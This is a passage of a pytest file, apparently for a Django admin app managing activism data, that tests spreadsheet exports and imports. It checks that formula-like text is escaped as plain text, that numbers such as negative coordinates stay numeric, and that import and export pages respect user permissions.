    make_post(FORMULA, slug="formula-post", lead=at, body=minus)
    return [FORMULA, at, minus]


def exported_cells(response, file_format):
    """Every cell of an exported file below the header, as (value, openpyxl data type or None for CSV)."""
    if file_format == CSV_FORMAT:
        _header, *rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
        return [(value, None) for row in rows for value in row]
    _header, *rows = openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows()
    return [(cell.value, cell.data_type) for row in rows for cell in row]


@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
@pytest.mark.parametrize("model", ["region", "city", "theme", "initiative", "author", "blogpost"])
def test_no_exported_cell_is_a_formula_a_spreadsheet_would_run(admin_client, site_data, model, file_format):
    written = records_with_formulas(model)
    cells = exported_cells(export(admin_client, model, file_format), file_format)
    assert all(data_type != "f" for _value, data_type in cells), "openpyxl wrote a formula cell"
    texts = [value for value, data_type in cells if data_type in {None, "s"}]  # text cells, and every CSV cell
    assert [text for text in texts if str(text).startswith(FORMULA_STARTS)] == []
    assert [f"'{text}" in texts for text in written] == [True] * len(written)  # shown as text, as written


def test_an_export_keeps_negative_coordinates_and_years_as_numbers(admin_client, site_data):
    make_city(FORMULA, latitude="-12.500000", longitude="-77.030000", slug="lima")
    make_initiative("-2+3 Movement", slug="movement", year_started=2019)
    sheet = openpyxl.load_workbook(io.BytesIO(export(admin_client, "city", XLSX_FORMAT).content)).active
    header, *rows = sheet.iter_rows()
    lima = next(dict(zip([cell.value for cell in header], row, strict=True)) for row in rows if row[1].value == "lima")
    assert (lima["latitude"].value, lima["latitude"].data_type) == (-12.5, "n")
    assert (lima["longitude"].value, lima["longitude"].data_type) == (-77.03, "n")
    assert (lima["name_en"].value, lima["name_en"].data_type) == ("'" + FORMULA, "s")
    rows = csv.DictReader(io.StringIO(export(admin_client, "city", CSV_FORMAT).content.decode("utf-8-sig")))
    lima = next(row for row in rows if row["slug"] == "lima")
    assert (lima["latitude"], lima["longitude"]) == ("-12.500000", "-77.030000")
    rows = csv.DictReader(io.StringIO(export(admin_client, "initiative", CSV_FORMAT).content.decode("utf-8-sig")))
    movement = next(row for row in rows if row["slug"] == "movement")
    assert (movement["name_en"], movement["year_started"]) == ("'-2+3 Movement", "2019")


def test_an_exported_formula_imports_back_as_it_was(admin_client, site_data):
    make_city(FORMULA, latitude="-12.500000", longitude="-77.030000", slug="lima")
    exported = export(admin_client, "city", CSV_FORMAT)
    file = SimpleUploadedFile("cities.csv", exported.content, content_type="text/csv")
    result = upload(admin_client, "city", file).context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert set(rows_by_type(result)) == {"skip"}  # nothing changed: no name gained an apostrophe
    assert City.objects.get(slug="lima").name_en == FORMULA


# The pages, and who may use them


@pytest.mark.parametrize("model", ["region", "city", "theme", "initiative", "author", "blogpost"])
def test_every_list_offers_an_export(admin_client, site_data, model):
    changelist = admin_client.get(reverse(f"admin:activism_{model}_changelist"))
    assert changelist.status_code == 200
    export_url = reverse(f"admin:activism_{model}_export")
    assert export_url in changelist.content.decode()
    page = admin_client.get(export_url)
    assert page.status_code == 200
    assert "XLSX" in page.content.decode().upper()


@pytest.mark.parametrize("model", ["city", "initiative"])
def test_the_import_page_opens_and_lists_the_columns(admin_client, model):
    page = admin_client.get(reverse(f"admin:activism_{model}_import"))
    assert page.status_code == 200
    content = page.content.decode()
    expected = {"city": ["name_kk", "region", "latitude"], "initiative": ["summary_ru", "themes", "cities"]}[model]
    assert all(column in content for column in expected)
    for internal in ["search_text", "version", "publication_status"]:
        assert internal not in content


def test_a_user_without_the_add_permission_cannot_import(site_data):
    viewer = user_with_permissions("view_city", "change_city")
    changelist = viewer.get(reverse("admin:activism_city_changelist")).content.decode()
    assert reverse("admin:activism_city_import") not in changelist
    assert viewer.get(reverse("admin:activism_city_import")).status_code == 403
    file = csv_file(CITY_HEADER, ["taraz", "", "", "Taraz", "akmola", "42.9", "71.37", ""])
    response = viewer.post(reverse("admin:activism_city_import"), {"format": CSV_FORMAT, "import_file": file})
    assert response.status_code == 403
    assert not City.objects.filter(slug="taraz").exists()


def test_a_user_with_the_add_permission_can_import(researcher, site_data):
    file = csv_file(CITY_HEADER, ["taraz", "", "", "Taraz", "akmola", "42.9", "71.37", ""])
    confirm(researcher, "city", upload(researcher, "city", file))
    assert City.objects.filter(slug="taraz").exists()


def test_a_user_who_may_not_see_a_list_cannot_export_it(site_data):
    other = user_with_permissions("view_city")
    assert other.get(reverse("admin:activism_initiative_export")).status_code == 403
